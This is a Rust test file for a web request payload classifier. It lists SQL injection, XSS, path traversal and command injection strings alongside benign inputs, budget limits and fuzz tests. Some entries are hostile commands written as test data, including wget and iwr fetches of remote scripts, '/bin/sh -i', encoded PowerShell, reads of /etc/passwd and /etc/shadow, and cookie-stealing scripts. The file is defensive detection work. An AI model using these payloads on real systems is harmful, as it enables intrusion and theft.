//! Table-driven tests for the payload classifier, decoders, budgets and robustness.

use super::*;

const B: PayloadBudget = PayloadBudget {
    max_bytes: 65536,
    max_nodes: 4096,
    max_depth: 16,
};

use AttackClass::{CommandInjection as Cmd, PathTraversal as Trav, Sqli, Xss};

#[test]
fn all_rules_compile() {
    assert!(rules::all_rules_compile());
}

#[test]
fn attack_values_are_classified() {
    let cases: &[(&str, AttackClass)] = &[
        // SQLi
        ("' or 1=1--", Sqli),
        ("1' OR '1'='1", Sqli),
        ("admin'--", Sqli),
        ("admin'#", Sqli),
        ("1 union select username, password from users", Sqli),
        ("1 UNION ALL SELECT NULL,NULL--", Sqli),
        ("-1945 /*!UNiOn*/ /*!SeLEct*/ 1,2,3", Sqli),
        ("1; drop table users", Sqli),
        ("1; DROP TABLE users--", Sqli),
        ("1 or 1=1", Sqli),
        ("1) and sleep(5)#", Sqli),
        ("(select(0)from(select(sleep(15)))v)", Sqli),
        ("1' and extractvalue(1,concat(0x7e,version()))--", Sqli),
        ("x' AND 1=(SELECT COUNT(*) FROM tabname); --", Sqli),
        ("\" or \"\"=\"", Sqli),
        ("1;waitfor delay '0:0:5'--", Sqli),
        // XSS
        ("<script>alert(1)</script>", Xss),
        ("<ScRiPt src=//evil></script>", Xss),
        ("javascript:alert(document.cookie)", Xss),
        ("java\tscript:alert(1)", Xss),
        ("<svg/onload=alert(1)>", Xss),
        ("<img src=x onerror=alert(1)>", Xss),
        ("\" onmouseover=\"alert(1)", Xss),
        ("\"onClick=\"(prompt)(1)", Xss),
        ("prompt.call(null,1)", Xss),
        ("<iframe src=\"data:text/html,<b>x</b>\">", Xss),
        ("<body onload=alert(1)>", Xss),
        ("'><details open ontoggle=confirm`1`>", Xss),
        // Path traversal
        ("../../etc/passwd", Trav),
        ("..\\..\\windows\\win.ini", Trav),
        ("/etc/passwd", Trav),
        ("c:\\windows\\win.ini", Trav),
        ("file:///etc/hosts", Trav),
        ("....//....//etc/shadow", Trav),
        (
            "php://filter/convert.base64-encode/resource=index.php",
            Trav,
        ),
        ("foo/..", Trav),
        // Command injection
        ("; cat /etc/passwd", Trav), // the file wins; both are blocks
        ("; cat /home/user/.profile", Cmd),
        ("| id", Cmd),
        ("x && whoami", Cmd),
        ("$(whoami)", Cmd),
        ("`id`", Cmd),
        ("ax--exec=`id`--remote=origin", Cmd),
        ("127.0.0.1\nls -la", Cmd),
        ("cat${IFS}x", Cmd),
        (";wget http://some_host/sh311.sh", Cmd),
        ("| set /a 3482*7301", Cmd),
        ("|getent hosts somehost.example.", Cmd),
        ("cmd=127.0.0.1 && ls /etc", Cmd),
        ("a;/bin/sh -i", Cmd),
        ("x|powershell -enc AAA", Cmd),
        ("/usr/bin/[u]name -a", Cmd),
        ("cat /et'c/pa'ss'wd", Trav),
        ("$(cat$())", Cmd),
        ("<(cat file)", Cmd),
        ("FOR /F \"tokens=*\" %G IN ('dir /b') DO (call :sub)", Cmd),
        ("IF EXIST MyFile.txt (ECHO x)", Cmd),
        (";iwr http://example.com/file.ps1", Cmd),
        // NoSQL operators (reported as SQL injection: same database-query class)
        ("u_id[$ne]", Sqli),
        ("true, $where: '99 == 88'", Sqli),
        ("db.injection.insert({success:1});", Sqli),
        ("' ;SELECT P", Sqli),
        (" exec xp_cmdshell", Sqli),
        // encodings handled inside the classifier
        ("&lt;script&gt;alert(1)&lt;/script&gt;", Xss),
        ("<a href=javas&#99;ript:prompt&#x28;1)>x", Xss),
        ("&gt;+src+onerror=confirm&amp;lpar;1&amp;rpar;&lt;", Xss),
        ("alert?.(document?.cookie)", Xss),
        ("document[\"cookie\"]", Xss),
        ("PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+", Xss), // base64 of <svg/onload=alert(1)>
    ];
    let mut failures = Vec::new();
    for (input, want) in cases {
        let got = inspect_value(input);
        if got.map(|g| g.0) != Some(*want) {
            failures.push(format!("{input:?}: want {want:?}, got {got:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn benign_values_pass() {
    let cases: &[&str] = &[
        "O'Reilly",
        "it's 5 o'clock",
        "rock & roll",
        "a-b",
        "john.doe@example.com",
        "https://example.com/x",
        "https://example.com/path/to/page?x=1&y=2",
        "SELECT your plan",
        "union station",
        "Union Station, select a platform",
        "1+1=2",
        "$19.99",
        "€ 1.234,56",
        "2024-01-31",
        "2024-01-31T12:00:00Z",
        "dGhpcyBpcyBhIGJhc2U2NCB0b2tlbg==",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "p@ss\"#word",
        "Tom & Jerry",
        "salt & pepper; cat food",
        "Q&A",
        "I'd like to order 2 items - please",
        "He said \"hello\" -- then left",
        "D'or 1st parfume",
        "and >I would like to see all of the items that are type <enter type here>.",
        "=Can I please adjust_campaign:sign?",
        "en-US,en;q=0.9",
        "text/html; charset=utf-8",
        "/api/v1/users/123",
        "version 1.2.3",
        "C'est la vie",
        "let's meet at 10:30; ok?",
        "one=two",
        "the onion=great",
        "5 > 3 and 2 < 4",
        "x=1; y=2",
        "Mary's lamb | nursery rhymes",
        "a/b/c.txt",
        "ls",
        "cat",
        "We're #1!",
        "100% sure",
        "price: $(5.00)",
        "SELECT * is not a sentence",
        "or else",
        "JavaScript: Basics of JavaScript Language",
        "while (foo) is bar.",
        "One quarter (24%) of people have had an affair",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        "internationalization",
        "QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
        "sign=VGhhbmtzLCBmb3IgYWxs/onafe=",
        "costs $5, or $10 with tax",
        "{\"$schema\": \"x\", \"$ref\": \"#/a\"}",
        "for more info see (page 3)",
        "if you're here, welcome",
        "AT&T; Q&A",
    ];
    let fps: Vec<String> = cases
        .iter()
        .filter_map(|v| inspect_value(v).map(|h| format!("{v:?} -> {h:?}")))
        .collect();
    assert!(fps.is_empty(), "false positives:\n{}", fps.join("\n"));
}

#[test]
fn query_decoding_and_locations() {
    let q = |s: &str| inspect_query(s, &B).unwrap_or(None);
    let f = q("a=1&q=%27%20or%201%3D1--").map(|f| (f.class, f.location));
    assert_eq!(f, Some((Sqli, "q".to_owned())));
    // `+` is a space
    assert_eq!(q("q=1+union+select+1,2").map(|f| f.class), Some(Sqli));
    // double encoding
    assert_eq!(
        q("f=%252e%252e%252fetc%252fpasswd").map(|f| f.class),
        Some(Trav)
    );
    assert_eq!(q("x=%253Cscript%253E").map(|f| f.class), Some(Xss));
    // overlong UTF-8
    let f = q("f=%c0%ae%c0%ae/secret");
    assert_eq!(f.map(|f| (f.class, f.rule)), Some((Trav, "overlong_utf8")));
    // IIS %u
    assert_eq!(q("f=%u002e%u002e/x").map(|f| f.class), Some(Trav));
    // newline + command
    assert_eq!(q("ip=127.0.0.1%0aid").map(|f| f.class), Some(Cmd));
    // attack in the key
    assert_eq!(q("<script>=1").map(|f| f.class), Some(Xss));
    // benign
    for benign in [
        "",
        "q=rock+%26+roll",
        "redirect=https%3A%2F%2Fexample.com%2Fx",
        "name=O%27Reilly&lang=en",
        "q=union+station&page=2",
        "sum=1%2B1%3D2",
        "a&b&&c=",
        "%",
        "%zz=%",
        "t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_",
    ] {
        assert_eq!(q(benign), None, "{benign}");
    }
}

#[test]
fn evidence_is_truncated_on_char_boundary() {
    let v = format!("<script>{}", "é".repeat(300));
    let f = inspect_query(&format!("x={v}"), &B).unwrap_or(None);
    let f = f.unwrap_or_else(|| PayloadFinding {
        class: Sqli,
        rule: "",
        location: String::new(),
        evidence: String::new(),
    });
    assert_eq!(f.class, Xss);
    assert_eq!(f.evidence.chars().count(), 120);
}

#[test]
fn form_body() {
    let f = inspect_form_body(b"user=admin&pass=x%27+or+%271%27%3D%271", &B);
    assert_eq!(
        f.map(|o| o.map(|f| (f.class, f.location))),
        Ok(Some((Sqli, "pass".to_owned())))
    );
    assert_eq!(
        inspect_form_body(b"user=bob&pass=p%40ss%22%23word", &B),
        Ok(None)
    );
    // invalid UTF-8 does not panic, still inspected
    let mut body = b"a=\xff\xfe&b=".to_vec();
    body.extend_from_slice(b"%3Cscript%3E");
    assert_eq!(
        inspect_form_body(&body, &B).map(|o| o.map(|f| f.class)),
        Ok(Some(Xss))
    );
}

#[test]
fn path() {
    assert_eq!(
        inspect_path("/search/<script>alert(1)</script>").map(|f| f.class),
        Some(Xss)
    );
    assert_eq!(
        inspect_path("/item/1 union select 1,2").map(|f| f.class),
        Some(Sqli)
    );
    assert_eq!(
        inspect_path("/x/%c0%ae%c0%ae/y").map(|f| f.rule),
        Some("overlong_utf8")
    );
    for benign in [
        "/",
        "/api/v1/users/123",
        "/static/app.min.js",
        "/blog/2024/01/it's-here",
        "/a/../b",
        "/files/report-2024.pdf",
        "/wiki/Rock_&_roll",
    ] {
        assert_eq!(inspect_path(benign), None, "{benign}");
    }
}

#[test]
fn json_body() {
    let j = |s: &str| inspect_json_body(s.as_bytes(), &B);
    let f = j(r#"{"user":{"name":"x' or '1'='1"}}"#);
    assert_eq!(
        f.map(|o| o.map(|f| (f.class, f.location))),
        Ok(Some((Sqli, "name".to_owned())))
    );
    assert_eq!(
        j(r#"["a", ["<svg/onload=alert(1)>"]]"#).map(|o| o.map(|f| f.class)),
        Ok(Some(Xss))
    );
    // attack in a key
    assert_eq!(
        j(r#"{"../../etc/passwd": 1}"#).map(|o| o.map(|f| f.class)),
        Ok(Some(Trav))
    );
    // JSON nested in a string is re-parsed
    assert_eq!(
        j(r#"{"data":"{\"cmd\":\"; cat /home/x/.bashrc\"}"}"#).map(|o| o.map(|f| f.class)),
        Ok(Some(Cmd))
    );
    // \u escapes are decoded by the parser
    assert_eq!(
        j(r#"{"a":"\u003cscript\u003e"}"#).map(|o| o.map(|f| f.class)),
        Ok(Some(Xss))
    );
    // percent-encoded values inside JSON
    assert_eq!(
        j(r#"{"a":"%3Cscript%3E"}"#).map(|o| o.map(|f| f.class)),
        Ok(Some(Xss))
    );
    // invalid JSON is inspected as text
    assert_eq!(
        j(r#"{"a": "<script>alert(1)"#).map(|o| o.map(|f| f.class)),
        Ok(Some(Xss))
    );
    assert_eq!(j("{not json at all"), Ok(None));
    // benign
    for benign in [
        r#"{"name":"O'Reilly","note":"it's 5 o'clock","tags":["rock & roll","a-b"]}"#,
        r#"{"email":"a@b.co","url":"https://example.com/x","price":19.99,"ok":true,"n":null}"#,
        r##"{"q":"union station","plan":"SELECT your plan","password":"p@ss\"#word"}"##,
        r#"{"token":"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc","date":"2024-01-31"}"#,
        r#"{"text":"{\"inner\": \"it's fine\"}"}"#,
        "[]",
        "",
    ] {
        assert_eq!(j(benign), Ok(None), "{benign}");
    }
}

#[test]
fn budgets() {
    let small = PayloadBudget {
        max_bytes: 10,
        max_nodes: 3,
        max_depth: 2,
    };
    let e = |w| Err(PayloadLimit { what: w });
    assert_eq!(inspect_query("a=12345678901", &small), e("bytes"));
    assert_eq!(inspect_form_body(b"a=12345678901", &small), e("bytes"));
    assert_eq!(inspect_json_body(b"[1,2,3,4,5,6]", &small), e("bytes"));
    assert_eq!(inspect_query("a&b&c&d", &small), e("nodes"));
    assert_eq!(inspect_query("a&b&c", &small), Ok(None));
    let roomy = PayloadBudget {
        max_bytes: 1 << 20,
        max_nodes: 3,
        max_depth: 2,
    };
    assert_eq!(inspect_json_body(b"[1,2,3]", &roomy), e("nodes"));
    assert_eq!(inspect_json_body(b"[1,2]", &roomy), Ok(None));
    assert_eq!(inspect_json_body(b"[[[1]]]", &roomy), e("depth"));
    assert_eq!(inspect_json_body(b"[[1]]", &roomy), Ok(None));
    // depth via JSON nested in a string
    assert_eq!(inspect_json_body(br#"["[[1]]"]"#, &roomy), e("depth"));
    // brackets inside strings do not count
    assert_eq!(inspect_json_body(br#"["x[[[[[["]"#, &roomy), Ok(None));
    // very deep nesting is a limit, not a parse error that skips inspection
    let deep = "[".repeat(10_000);
    assert_eq!(inspect_json_body(deep.as_bytes(), &B), e("depth"));
    // node limit with default budget
    let many = format!("[{}1]", "1,".repeat(5000));
    assert_eq!(inspect_json_body(many.as_bytes(), &B), e("nodes"));
    let many_q = "a&".repeat(5000);
    assert_eq!(inspect_query(&many_q, &B), e("nodes"));
}

/// Deterministic xorshift so the test needs no extra dependency.
fn xorshift(state: &mut u64) -> u64 {
    let mut x = *state;
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    *state = x;
    x
}

#[test]
fn random_bytes_never_panic() {
    let alphabet =
        b"%'\"<>;|&$()./\\-#=:`{}[]*+ \n\r\tabcdefxyzSELECTunion0123456789\xc0\xae\xe0\x80\xff";
    let mut s = 0x9E37_79B9_7F4A_7C15u64;
    for round in 0..1500 {
        let len = (xorshift(&mut s) % 200) as usize;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                let r = xorshift(&mut s);
                if round % 2 == 0 {
                    alphabet[(r % alphabet.len() as u64) as usize]
                } else {
                    r as u8
                }
            })
            .collect();
        let text = String::from_utf8_lossy(&bytes);
        let _ = inspect_value(&text);
        let _ = inspect_path(&text);
        let _ = inspect_query(&text, &B);
        let _ = inspect_form_body(&bytes, &B);
        let _ = inspect_json_body(&bytes, &B);
        let wrapped = format!("{{\"k\":\"{}\"}}", text.replace(['"', '\\'], ""));
        let _ = inspect_json_body(wrapped.as_bytes(), &B);
    }
}

#[test]
fn attack_class_names() {
    assert_eq!(Sqli.as_str(), "sqli");
    assert_eq!(Xss.as_str(), "xss");
    assert_eq!(Trav.as_str(), "path_traversal");
    assert_eq!(Cmd.as_str(), "command_injection");
}

/// A long run of shell metacharacters is scanned once, not once per character (1 MiB of `|`,
/// the largest payload budget, once took minutes), and a command after the run is still found.
#[test]
fn long_metacharacter_runs_are_scanned_once() {
    for c in ["|", "&", "| ", "|&("] {
        let run = c.repeat((1 << 18) / c.len());
        assert_eq!(inspect_value(&run), None, "{c:?} run");
        let attack = format!("{run}id");
        assert_eq!(
            inspect_value(&attack).map(|h| h.0),
            Some(Cmd),
            "{c:?} run then `id`"
        );
    }
}
